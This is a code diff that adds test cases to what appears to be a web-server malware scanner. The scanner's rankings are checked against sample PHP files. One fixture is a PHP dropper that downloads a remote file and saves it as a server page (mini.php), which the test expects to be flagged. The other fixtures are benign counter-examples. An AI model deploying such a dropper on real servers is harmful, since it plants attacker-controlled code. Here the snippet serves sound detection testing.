@@ -103,5 +103,27 @@ file_put_contents('/var/cache/app/report.txt', $summary);
 exec('/usr/bin/lpr /var/cache/app/other.txt');
 `;
     expect(top('/var/www/html/print.php', report)?.reason ?? '').not.toMatch(/writes a program/);
+    // A file that is no program, named in the command that reads it.
+    const build = `<?php
+file_put_contents('composer.json', json_encode($deps));
+echo shell_exec('composer validate composer.json');
+`;
+    expect(top('/var/www/html/build.php', build)?.reason ?? '').not.toMatch(/writes a program/);
+  });
+
+  it('ranks a page that saves code it downloads as a server page critical, and a feed cache not', () => {
+    const dropper = `<?php
+$url = 'https://raw.githubusercontent.com/x/y/main/403.php';
+$content = file_get_contents($url);
+$name = 'mini.php';
+if (file_put_contents($name, $content)) echo "ok";
+`;
+    expect(isAlarm('/var/www/html/mini.php', dropper)).toBe(true);
+    const cache = `<?php
+$feed = file_get_contents('https://example.org/news.rss');
+file_put_contents(__DIR__ . '/cache/news.xml', $feed);
+file_put_contents(__DIR__ . '/cache/stamp.php', '<?php return ' . time() . ';');
+`;
+    expect(isAlarm('/var/www/html/feed.php', cache)).toBe(false);
   });
 });
